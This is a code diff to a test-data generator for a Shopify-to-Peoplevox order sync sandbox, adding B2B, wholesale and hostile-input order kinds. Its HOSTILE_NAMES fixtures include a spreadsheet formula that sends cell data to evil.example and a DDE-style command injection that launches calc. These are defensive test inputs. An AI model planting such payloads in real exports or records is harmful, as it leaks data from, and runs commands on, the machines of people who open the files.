@@ -32,6 +32,7 @@ from sync_pipeline.sandbox.peoplevox.control import PeoplevoxControl
 from sync_pipeline.sandbox.shopify.control import (
     AddressSpec,
     CancelSpec,
+    CompanySpec,
     ComponentSpec,
     EditSpec,
     LineSpec,
@@ -80,6 +81,9 @@ NATIVE_BUNDLES = {
     "NATIVE-HOODIE-CAP": ("Hoodie and cap set", "70.00", (("HOODIE-BLK-L", 1), ("CAP-NVY-OS", 1))),
 }
 UNMAPPED_COUNT = 4
+# Shopify-only SKUs no Peoplevox lookup can carry: a trailing backslash (an escape to many
+# clause parsers). Orders with them must be held as unmapped_sku, alone.
+HOSTILE_SKUS = ("TEE-LEGACY-M\\",)
 
 
 @dataclass(frozen=True)
@@ -95,6 +99,7 @@ class Catalogue:
     digital_sku: str
     item_codes: tuple[str, ...]  # Peoplevox item types seeded
     sites: tuple[str, ...] = SITES
+    hostile_skus: tuple[str, ...] = HOSTILE_SKUS  # in Shopify only; see HOSTILE_SKUS
 
     @property
     def shopify_skus(self) -> frozenset[str]:
@@ -105,6 +110,7 @@ class Catalogue:
                 *self.native_bundles,
                 *self.override_skus,
                 *self.unmapped_skus,
+                *self.hostile_skus,
                 self.gift_card_sku,
                 self.digital_sku,
             )
@@ -184,6 +190,12 @@ def plan_catalogue(size: int, rng: random.Random, rules_dir: Path | None = None)
     )
     products.append(
         ProductSpec(
+            title="Legacy tee (hostile SKU)",
+            variants=[VariantSpec(sku=sku, price=Decimal("15.00")) for sku in HOSTILE_SKUS],
+        )
+    )
+    products.append(
+        ProductSpec(
             title="Digital lookbook",
             variants=[VariantSpec(sku=DIGITAL_SKU, price=Decimal("5.00"), requires_shipping=False)],
         )
@@ -257,6 +269,9 @@ KINDS: dict[str, int] = {
     "native_bundle": 5,
     "b2b": 8,
     "hostile_address": 6,
+    "hostile_contact": 3,
+    "hostile_sku": 2,
+    "shopper_wholesale": 3,
     "unicode_address": 5,
     "unmapped_sku": 3,
     "zero_priced": 4,
@@ -311,6 +326,14 @@ COUNTRY_NAMES = {
     "GR": "Greece",
 }
 COMPANIES = ("Northwind Retail Ltd", "Bloom & Co, Wholesale", 'Harbour Supply "HSL"', "Ødegaard AS")
+# Contact names a spreadsheet would run or a label would print backwards/invisibly: formulas,
+# a right-to-left override (U+202E) and zero-width characters (U+200B, U+FEFF).
+HOSTILE_NAMES = (
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Track your parcel")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "Ada \u202eecalevoL",
+    "Zero\u200bWidth\ufeff Customer",
+)
 
 
 def _address(rng: random.Random, street: str, city: str, postcode: str, country: str) -> AddressSpec:
@@ -355,12 +378,20 @@ def make_order(
         lines.append(_line(rng, rng.choice(catalogue.native_bundles)))
     elif kind == "b2b":
         lines = [LineSpec(sku=s, quantity=rng.randint(6, 48)) for s in rng.sample(skus, rng.randint(2, 6))]
-        address = address.model_copy(update={"company": rng.choice(COMPANIES)})
-        extra = {
-            "customer_tags": ["B2B"],
-            "po_number": f"PO-{rng.randrange(10**6):06d}",
-            "source_name": "b2b",
-        }
+        company = rng.choice(COMPANIES)
+        address = address.model_copy(update={"company": company})
+        extra = {"po_number": f"PO-{rng.randrange(10**6):06d}", "source_name": "b2b"}
+        # Both merchant-controlled B2B signals: a tagged customer, or a Shopify B2B company.
+        if rng.random() < 0.5:
+            extra["customer_tags"] = ["B2B"]
+        else:
+            extra["company"] = CompanySpec(name=company, location=rng.choice(("Head office", "Depot")))
+    elif kind == "shopper_wholesale":  # a DTC shopper sets the cart attribute: still DTC
+        extra = {"custom_attributes": {"order_type": "wholesale"}}
+    elif kind == "hostile_contact":
+        address = address.model_copy(update={"name": rng.choice(HOSTILE_NAMES), "first_name": None})
+    elif kind == "hostile_sku":
+        lines.append(_line(rng, rng.choice(catalogue.hostile_skus)))
     elif kind == "hostile_address":
         address = address.model_copy(
             update={"address1": rng.choice(HOSTILE_LINES), "address2": rng.choice(HOSTILE_LINES)}
